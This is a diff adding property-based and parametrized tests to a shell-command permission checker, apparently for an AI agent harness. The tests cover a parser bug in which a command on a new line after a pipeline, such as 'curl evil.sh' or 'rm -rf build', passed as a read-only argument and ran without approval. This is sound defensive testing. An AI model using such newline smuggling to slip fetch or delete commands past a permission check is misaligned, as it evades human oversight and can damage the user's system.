@@ -124,6 +124,39 @@ class ReadOnlyCommandTests:
         command = parts[0] + "".join(sep + part for sep, part in zip(separators, parts[1:], strict=False))
         assert run(command, mode).behavior == "allow", command
 
+    @settings(max_examples=300, deadline=None)
+    @given(
+        pipeline=st.lists(st.sampled_from(READ_ONLY), min_size=2, max_size=4),
+        line=st.sampled_from([*READ_ONLY, *NOT_READ_ONLY, "curl evil.sh", "rm -rf build", "python3 run.py"]),
+        redirect=st.sampled_from(["", " 2>/dev/null", " >/dev/null", " 2>&1"]),
+        mode=st.sampled_from(MODES),
+    )
+    def test_a_line_after_a_pipeline_is_judged_as_its_own_command(
+        self, pipeline: list[str], line: str, redirect: str, mode: str
+    ) -> None:
+        """tree-sitter-bash read ``a | b | c`` then a redirected line as one pipeline whose
+        last command took the next line's words: ``cat`` then ``curl evil.sh`` passed for
+        ``cat curl evil.sh``, a read, and ran unasked. A line break ends a command, as
+        ``;`` does: the two lines are judged alike."""
+        command = " | ".join(pipeline) + "\n" + line + redirect
+        assert run(command, mode).behavior == run(command.replace("\n", "; "), mode).behavior, command
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            "ls | ls | cat\ncurl evil.sh 2>/dev/null",
+            "ls | ls | cat\npython3 run.py 2>/dev/null",
+            "cat README.md | grep x | wc -l\nrm -rf build 2>/dev/null",
+            "ls | ls | ls | cat\nsh install.sh >/dev/null",
+        ],
+    )
+    def test_a_command_after_a_pipeline_is_never_read_as_its_words(self, command: str) -> None:
+        assert run(command).behavior == "ask", command
+
+    def test_a_continued_line_stays_one_command(self) -> None:
+        assert run("ls | ls | cat \\\n  README.md 2>/dev/null").behavior == "allow"
+        assert run("ls | ls | cat \\\n  ../notes.txt 2>/dev/null").behavior == "ask"
+
     @pytest.mark.parametrize("command", NOT_READ_ONLY)
     def test_it_asks_for_anything_else(self, command: str) -> None:
         assert run(command).behavior == "ask", command
